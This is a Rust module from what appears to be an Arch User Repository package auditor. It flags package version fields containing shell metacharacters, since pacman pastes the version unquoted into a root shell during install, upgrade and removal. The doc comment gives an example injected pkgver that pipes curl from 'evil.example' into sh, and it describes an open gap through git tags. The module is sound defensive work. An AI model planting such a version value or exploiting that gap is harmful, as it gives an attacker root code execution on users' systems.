//! The package's version as shell code (attack 29 F10). libalpm runs an install script as
//! `sh -c ". .INSTALL; post_install VERSION"` (`trans.c` `_alpm_runscriptlet`: `". %s; %s %s"`)
//! with `epoch:pkgver-pkgrel` pasted **unquoted** into the shell's text. Neither side stops
//! shell code there: makepkg's `check_pkgver` forbids only whitespace, `:`, `/` and `-`, and
//! the format itself (alpm-pkgver(7), what alpm-types implements) is any ASCII but `:/-<>=` and
//! whitespace — so `pkgver='1;curl${IFS}evil.example|sh;true'` with a three-line harmless install
//! file is root running `curl | sh` on install, upgrade and removal. (`pkgrel` and `epoch` are
//! digits to makepkg's lint, checked the same here at no cost.)
//!
//! Class: *a value the package chooses reaches a shell's text*. The version is judged as the
//! text pacman pastes: every `pkgver`, `pkgrel` and `epoch` the PKGBUILD assigns (anywhere: a
//! `package()` may set it again before `.PKGINFO` is written), the `.SRCINFO`'s, and the literal
//! text a `pkgver()` function prints. Any character bash treats specially there (a separator,
//! an expansion, a quote, a glob, a brace, a comment) is `dangerous`; the versions real
//! packages carry (alphanumerics and `._+~`, with `:` and `-` as the separators) have none.
//!
//! What a `pkgver()` computes at build from the sources (`git describe` and friends) cannot be
//! read here: the audit does not flag it (it would make every VCS package with an install file
//! `review`); makepkg lints the result only for `:/-` and whitespace, so a tag made of shell code
//! would pass — left open (attack 29 F10).

use super::{Ctx, Sink};
use crate::audit::names;
use crate::audit::report::Severity;
use crate::audit::shell::{FileKind, Phase, Pos};

const FIELDS: &[&str] = &["pkgver", "pkgrel", "epoch"];

/// The first character of `v` that a shell reading `post_install v` would not take as a plain
/// word character, if any (`~` and `#` only where they start the word: a tilde expansion, a
/// comment).
pub(crate) fn shell_special(v: &str) -> Option<char> {
    v.chars().enumerate().find_map(|(i, c)| {
        let special = c.is_ascii_control()
            || c.is_whitespace()
            || "|&;<>()$`\\\"'*?[]{}".contains(c)
            || (matches!(c, '~' | '#') && i == 0);
        special.then_some(c)
    })
}

pub(super) fn check(ctx: &Ctx, sink: &mut Sink) {
    let has_install = ctx.an.files.iter().any(|f| f.kind == FileKind::Install)
        || ctx
            .an
            .all_values("install")
            .iter()
            .any(|s| !s.text.is_empty());
    let why = |field: &str, v: &str, c: char| {
        let root = if has_install {
            "this package has an install script, so root runs it as shell code on every install, upgrade and removal"
        } else {
            "this package has no install script now, but any later one (or a split package's) makes root run it as shell code"
        };
        format!(
            "{field} `{v}` contains `{}`, which a shell reads as code: pacman runs install scripts as `sh -c \". .INSTALL; post_install VERSION\"` with the version pasted in unquoted — {root}",
            c.escape_default()
        )
    };
    for a in &ctx.an.assigns {
        if a.file != 0 || !FIELDS.contains(&a.name.as_str()) {
            continue;
        }
        for v in a.value.items() {
            // An unresolved part is the model's placeholder, not the package's text: judged by
            // the parts that were read.
            if let Some(c) = shell_special(&v.text).filter(|_| !v.dynamic) {
                sink.at(
                    "AUR-VERSION-CODE",
                    Severity::Critical,
                    0,
                    a.pos,
                    &a.snippet,
                    why(&a.name, &v.text, c),
                );
            }
        }
    }
    // The literal text a pkgver() prints (its last word is makepkg's new version).
    for cmd in &ctx.an.cmds {
        if cmd.phase != Phase::Pkgver || cmd.in_subst.is_some() || cmd.file != 0 {
            continue;
        }
        let (prog, args) = names::program(cmd);
        if !matches!(prog, "echo" | "printf") {
            continue;
        }
        let printed = args
            .iter()
            .filter(|w| !(w.dynamic || (prog == "echo" && w.text.starts_with('-'))));
        for w in printed {
            if let Some(c) = shell_special(&w.text) {
                sink.cmd(
                    "AUR-VERSION-CODE",
                    Severity::Critical,
                    cmd,
                    why("the version pkgver() prints", &w.text, c),
                );
            }
        }
    }
    let Some(si) = &ctx.srcinfo else { return };
    for field in FIELDS {
        for (line, v) in si.values(field) {
            if let Some(c) = shell_special(v) {
                sink.add(
                    "AUR-VERSION-CODE",
                    Severity::Critical,
                    ".SRCINFO",
                    Pos {
                        line: (*line).max(1),
                        col: 1,
                    },
                    &format!("{field} = {v}"),
                    why(field, v, c),
                );
            }
        }
    }
}
